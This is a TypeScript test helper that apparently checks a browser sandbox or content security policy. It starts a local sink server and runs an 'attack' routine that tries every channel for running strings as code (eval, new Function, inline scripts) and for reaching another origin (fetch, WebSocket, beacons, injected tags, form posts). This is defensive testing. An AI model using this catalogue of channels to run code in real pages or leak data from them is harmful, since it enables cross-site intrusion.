/** A server that nobody may reach: whatever arrives is a leak. Also what hostile code would try in order to reach it. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Sink {
	/** Origin of its own, on another port. */
	origin: string;
	/** Requests and connections so far; there should be none. */
	arrived: string[];
	stop: () => Promise<void>;
}

export async function startSink(): Promise<Sink> {
	const arrived: string[] = [];
	const server = createServer((request, response) => {
		arrived.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('0');
	});
	server.on('upgrade', (request, socket) => {
		arrived.push(`UPGRADE ${request.url}`);
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const { port } = server.address() as AddressInfo;
	return {
		origin: `http://127.0.0.1:${port}`,
		arrived,
		stop: () =>
			new Promise((resolve) => {
				server.close(() => resolve());
				server.closeAllConnections();
			})
	};
}

/**
 * Runs in a page or a worker: tries every way to run a string as code and to reach `origin`. Answers what was
 * possible. Self-contained, because it is sent there as text.
 */
export async function attack(origin: string): Promise<string[]> {
	const done: string[] = [];
	const attempt = async (name: string, act: () => unknown) => {
		try {
			if (await act()) done.push(name);
		} catch {
			// Refused, as it should be.
		}
	};
	// Out of the debugger's own evaluation, which may be allowed more than the page is.
	await new Promise((resolve) => setTimeout(resolve));
	await attempt('eval', () => (0, eval)('1 + 1') === 2);
	await attempt('new Function', () => new Function('return 2')() === 2);
	await attempt('a string as a timer', async () => {
		(setTimeout as (code: string) => void)('globalThis.ranAsTimer = true');
		await new Promise((resolve) => setTimeout(resolve, 50));
		return 'ranAsTimer' in globalThis;
	});
	const policies = Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown };
	await attempt('a new policy', () => policies.createPolicy('evil', {}));
	await attempt('the same policy again', () => policies.createPolicy('kith-script', {}));
	await attempt('fetch', () => fetch(`${origin}/fetch`));
	await attempt('fetch without an answer', () => fetch(`${origin}/blind`, { mode: 'no-cors' }));
	await attempt('XMLHttpRequest', async () => {
		const request = new XMLHttpRequest();
		request.open('GET', `${origin}/xhr`);
		return new Promise((resolve, reject) => {
			request.onload = resolve;
			request.onerror = reject;
			request.send();
		});
	});
	const opened = (target: EventTarget) =>
		new Promise((resolve, reject) => {
			target.addEventListener('open', resolve);
			target.addEventListener('load', resolve);
			target.addEventListener('error', reject);
			setTimeout(reject, 3000);
		});
	await attempt('WebSocket', () => opened(new WebSocket(`${origin.replace('http', 'ws')}/socket`)));
	await attempt('EventSource', () => opened(new EventSource(`${origin}/events`)));
	await attempt('import', () => import(/* @vite-ignore */ `${origin}/import.js`));
	await attempt('a worker', () => opened(new Worker(`${origin}/worker.js`)));
	await attempt('a worker of a blob', () => new Worker(URL.createObjectURL(new Blob(['0']))));
	if (!('document' in globalThis)) return done;
	// It answers true also where it sends nothing; the sink tells.
	navigator.sendBeacon(`${origin}/beacon`, 'x');
	const added = (tag: string, attributes: Record<string, string>) => {
		const element = Object.assign(document.createElement(tag), attributes);
		const met = opened(element);
		document.body.append(element);
		return met.finally(() => element.remove());
	};
	await attempt('an inline script', async () => {
		const script = document.createElement('script');
		script.textContent = 'globalThis.ranInline = true';
		document.body.append(script);
		return 'ranInline' in globalThis;
	});
	await attempt('an inline handler', () => {
		const button = document.createElement('button');
		button.setAttribute('onclick', 'globalThis.ranHandler = true');
		button.click();
		return 'ranHandler' in globalThis;
	});
	await attempt('markup', () => {
		document.createElement('div').innerHTML = '<b>x</b>';
		return true;
	});
	await attempt('a script', () => added('script', { src: `${origin}/script.js` }));
	await attempt('an image', () => added('img', { src: `${origin}/image.png` }));
	await attempt('a style sheet', () => added('link', { rel: 'stylesheet', href: `${origin}/style.css` }));
	await attempt('a prefetch', () => added('link', { rel: 'prefetch', href: `${origin}/prefetch` }));
	await attempt('a preload', () => added('link', { rel: 'preload', as: 'script', href: `${origin}/preload.js` }));
	// A refused frame loads an error page and says so by `load`; the sink tells.
	await added('iframe', { src: `${origin}/frame` }).catch(() => undefined);
	await attempt('an object', () => added('object', { data: `${origin}/object` }));
	await attempt('a base', () => {
		const base = Object.assign(document.createElement('base'), { href: `${origin}/` });
		document.head.append(base);
		const moved = document.baseURI.startsWith(origin);
		base.remove();
		return moved;
	});
	const form = Object.assign(document.createElement('form'), {
		action: `${origin}/form`,
		method: 'post',
		target: 'elsewhere'
	});
	document.body.append(form);
	form.submit();
	const styled = document.createElement('div');
	styled.style.backgroundImage = `url(${origin}/background.png)`;
	styled.style.height = '1px';
	document.body.append(styled);
	await new Promise((resolve) => setTimeout(resolve, 500));
	styled.remove();
	form.remove();
	return done;
}
